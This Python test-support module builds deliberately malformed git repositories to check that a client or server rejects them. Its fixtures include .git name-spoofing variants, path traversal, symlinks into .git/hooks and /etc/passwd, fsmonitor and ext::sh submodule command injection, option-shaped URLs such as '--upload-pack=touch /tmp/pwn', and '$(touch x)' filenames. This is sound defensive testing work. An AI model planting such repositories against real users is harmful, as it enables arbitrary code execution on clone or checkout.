"""Repositories whose trees hold what a checkout, or a walk over them, must not meet."""

from __future__ import annotations

from collections.abc import Callable

from tests.support.hostile_site import CLEAN, OBJECTS, UNAVAILABLE, Flaw, Site
from tests.support.pack_format import loose_objects, pack
from tests.support.repos import Commit, File, bare_repository, explode, git, link, raw_commit, raw_object, raw_tree

__all__ = ["TREE_FLAWS"]

WIDE = 20_000
DEEP = 3_000
_BLOB = "100644"


def _named(function: str, name: str, mode: str = _BLOB) -> Callable[[Site], None]:
    """A flaw that is called `function`: a tree with one entry of this name."""

    def arm(site: Site) -> None:
        _entries(site, (mode, name))

    arm.__name__ = function
    return arm


def _entries(site: Site, *entries: tuple[str, str]) -> None:
    """A branch with a tree of these modes and names, in this order."""
    blob = raw_object(site.repository, "blob", b"gitdir: /etc\n")
    tree = raw_tree(site.repository, [("100644", "x", blob)])
    oids = {0o040000: tree, 0o160000: "1" * 40}
    named = [(mode, name, oids.get(int(mode, 8), blob)) for mode, name in entries]
    _serve_unread(site, raw_tree(site.repository, named))


def _serve_unread(site: Site, tree: str) -> None:
    """A branch with this tree, and a pack of everything for a server to hand out without looking at it."""
    raw_commit(site.repository, tree, branch="bad")
    explode(site.repository)
    (site.repository / "lie.pack").write_bytes(pack(loose_objects(site.repository)))


def _files(site: Site, files: dict[str, File | bytes | str | None]) -> None:
    """A branch with these files, made by git itself."""
    made = bare_repository(site.outside / "made.git", [Commit(files)])
    git(site.repository, "fetch", "--quiet", f"file://{made}", "main:bad")


def tree_with_a_name_twice(site: Site) -> None:
    _entries(site, (_BLOB, "a"), (_BLOB, "a"))


def tree_with_a_file_and_a_folder_of_one_name(site: Site) -> None:
    _entries(site, (_BLOB, "a"), (_BLOB, "a.b"), ("40000", "a"))


def tree_in_another_order(site: Site) -> None:
    _entries(site, (_BLOB, "b"), (_BLOB, "a"))


def tree_with_names_that_differ_in_case_alone(site: Site) -> None:
    _entries(site, ("120000", "A"), ("40000", "a"))


def tree_with_a_folder_under_a_link(site: Site) -> None:
    """A link `a` to the hooks folder, and files `a/…` to be written through it."""
    blob = raw_object(site.repository, "blob", b".git/hooks")
    inner = raw_tree(site.repository, [("100755", "post-checkout", blob)])
    raw_commit(site.repository, raw_tree(site.repository, [("120000", "a", blob), ("40000", "a", inner)]), branch="bad")


def tree_with_a_nested_git_folder(site: Site) -> None:
    blob = raw_object(site.repository, "blob", f"[core]\n\tfsmonitor = {site.trap.shell('nested')}\n".encode())
    inner = raw_tree(site.repository, [(_BLOB, "HEAD", blob), (_BLOB, "config", blob)])
    outer = raw_tree(site.repository, [("40000", ".git", inner)])
    raw_commit(site.repository, raw_tree(site.repository, [("40000", "sub", outer)]), branch="bad")


def tree_with_a_bare_repository_inside(site: Site) -> None:
    """Plain files that make a folder a repository for a git that is started in it."""
    config = f'[core]\n\tbare = true\n\tfsmonitor = "{site.trap.shell("bare-inside")}"\n'
    head = {"HEAD": "ref: refs/heads/main\n", "objects/.keep": "", "refs/.keep": ""}
    _files(site, {f"sub/{name}": text for name, text in {**head, "config": config}.items()})


def tree_with_attributes_that_name_drivers(site: Site) -> None:
    _files(site, {".gitattributes": "* filter=x diff=x merge=x ident text eol=crlf working-tree-encoding=UTF-16\n"})


def tree_with_links_out_of_it(site: Site) -> None:
    _files(site, {"a": link("/etc/passwd"), "b": link("../../../../etc"), "c": link(".git/config")})


def tree_with_names_that_a_terminal_acts_on(site: Site) -> None:
    names = ("\x1b]0;x\x07", "a\nb", "\u202egnp.exe", "-rf", "--upload-pack=x", "$(touch x)", "\udcff")
    _files(site, {name: "x" for name in names})


def tree_with_20_000_entries(site: Site) -> None:
    _entries(site, *((_BLOB, f"{number:05}") for number in range(WIDE)))


def tree_3_000_levels_deep(site: Site) -> None:
    blob = raw_object(site.repository, "blob", b"x")
    trees = _nested_trees(blob, DEEP)
    git(site.repository, "fast-import", "--quiet", stdin=trees)


def _nested_trees(blob: str, levels: int) -> bytes:
    path = "d/" * levels + "x"
    head = b"commit refs/heads/bad\ncommitter Ada <ada@example.com> 1700000000 +0000\ndata 0\n"
    return head + f"M 100644 {blob} {path}\n".encode()


def tree_with_zero_padded_modes(site: Site) -> None:
    _entries(site, ("0100644", "a"), ("040000", "b"))


def tree_with_modes_that_there_are_not(site: Site) -> None:
    _entries(site, ("100777", "a"), ("107777", "b"), ("060000", "c"))


def tree_whose_file_is_a_tree(site: Site) -> None:
    tree = raw_tree(site.repository, [])
    _serve_unread(site, raw_tree(site.repository, [(_BLOB, "a", tree)]))


def tree_that_names_the_null_object(site: Site) -> None:
    _serve_unread(site, raw_tree(site.repository, [(_BLOB, "a", "0" * 40)]))


def tree_that_ends_in_the_middle(site: Site) -> None:
    _serve_unread(site, raw_object(site.repository, "tree", b"100644 a\0short"))


def tree_that_is_no_tree(site: Site) -> None:
    _serve_unread(site, raw_object(site.repository, "tree", b"\xff" * 4096))


def _modules(site: Site, text: str) -> None:
    _files(site, {".gitmodules": text, "s": File(b"1" * 40, "160000")})


def submodule_address_is_a_remote_helper(site: Site) -> None:
    _modules(site, f'[submodule "s"]\n\tpath = s\n\turl = "ext::sh -c {site.trap.shell("submodule")}"\n')


def submodule_address_is_a_listener(site: Site) -> None:
    _modules(site, f'[submodule "s"]\n\tpath = s\n\turl = https://{site.trap.evil.host}/s.git\n')


def submodule_address_is_shaped_like_an_option(site: Site) -> None:
    _modules(site, '[submodule "s"]\n\tpath = s\n\turl = --upload-pack=touch /tmp/pwn\n')


def submodule_path_is_shaped_like_an_option(site: Site) -> None:
    _modules(site, '[submodule "s"]\n\tpath = -s\n\turl = https://example.com/s.git\n')


def submodule_name_climbs(site: Site) -> None:
    _modules(site, '[submodule "../../hooks"]\n\tpath = s\n\turl = https://example.com/s.git\n')


def submodule_is_updated_by_a_command(site: Site) -> None:
    _modules(site, f'[submodule "s"]\n\tpath = s\n\turl = ./s\n\tupdate = "!{site.trap.shell("update")}"\n')


def modules_file_is_a_link(site: Site) -> None:
    _entries(site, ("120000", ".gitmodules"))


def modules_file_is_a_link_by_another_spelling(site: Site) -> None:
    _entries(site, ("120000", ".GitModules\u200c"))


def modules_file_is_a_folder(site: Site) -> None:
    _entries(site, ("40000", ".gitmodules"))


def modules_file_is_garbage(site: Site) -> None:
    _files(site, {".gitmodules": b'[submodule "\0' + b"\xff" * 100_000})


TREE_FLAWS = (
    Flaw(_named("tree_with_dot_git", ".git"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_dot_git_folder", ".git", "40000"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_dot_git_link", ".git", "120000"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_dot_git_submodule", ".git", "160000"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_in_capitals", ".GIT"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_and_a_space", ".git "), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_and_a_dot", ".git."), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_by_its_short_name", "git~1"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_and_a_stream", ".git::$INDEX_ALLOCATION"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_and_an_ignorable_character", ".g\u200cit"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_git_and_an_ignorable_end", ".git\ufeff"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_dot_dot", ".."), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_dot_dot_folder", "..", "40000"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_dot", "."), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_a_slash", "a/b"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_an_absolute_path", "/etc/passwd"), OBJECTS, OBJECTS),
    Flaw(_named("tree_with_an_empty_name", ""), UNAVAILABLE, OBJECTS),
    Flaw(_named("tree_with_backslashes", "..\\..\\x"), CLEAN, CLEAN),
    Flaw(_named("tree_with_a_name_of_70_000_bytes", "n" * 70_000), CLEAN, CLEAN),
    Flaw(tree_with_a_name_twice, OBJECTS, OBJECTS),
    Flaw(tree_with_a_file_and_a_folder_of_one_name, OBJECTS, OBJECTS),
    Flaw(tree_in_another_order, OBJECTS, OBJECTS),
    Flaw(tree_with_names_that_differ_in_case_alone, CLEAN, CLEAN),
    Flaw(tree_with_a_folder_under_a_link, OBJECTS, OBJECTS),
    Flaw(tree_with_a_nested_git_folder, OBJECTS, OBJECTS),
    Flaw(tree_with_a_bare_repository_inside, CLEAN, CLEAN),
    Flaw(tree_with_attributes_that_name_drivers, CLEAN, CLEAN),
    Flaw(tree_with_links_out_of_it, CLEAN, CLEAN),
    Flaw(tree_with_names_that_a_terminal_acts_on, CLEAN, CLEAN),
    Flaw(tree_with_20_000_entries, CLEAN, CLEAN),
    Flaw(tree_3_000_levels_deep, CLEAN, CLEAN),
    Flaw(tree_with_zero_padded_modes, CLEAN, CLEAN),
    Flaw(tree_with_modes_that_there_are_not, CLEAN, CLEAN),
    Flaw(tree_whose_file_is_a_tree, OBJECTS, OBJECTS),
    Flaw(tree_that_names_the_null_object, UNAVAILABLE, OBJECTS),
    Flaw(tree_that_ends_in_the_middle, UNAVAILABLE, OBJECTS),
    Flaw(tree_that_is_no_tree, UNAVAILABLE, OBJECTS),
    Flaw(submodule_address_is_a_remote_helper, CLEAN, CLEAN),
    Flaw(submodule_address_is_a_listener, CLEAN, CLEAN),
    Flaw(submodule_address_is_shaped_like_an_option, OBJECTS, OBJECTS),
    Flaw(submodule_path_is_shaped_like_an_option, OBJECTS, OBJECTS),
    Flaw(submodule_name_climbs, OBJECTS, OBJECTS),
    Flaw(submodule_is_updated_by_a_command, OBJECTS, OBJECTS),
    Flaw(modules_file_is_a_link, OBJECTS, OBJECTS),
    Flaw(modules_file_is_a_link_by_another_spelling, OBJECTS, OBJECTS),
    Flaw(modules_file_is_a_folder, OBJECTS, OBJECTS),
    Flaw(modules_file_is_garbage, CLEAN, CLEAN),
)
"""A tree's flaw lies in an object, so it is the same one over every transport."""
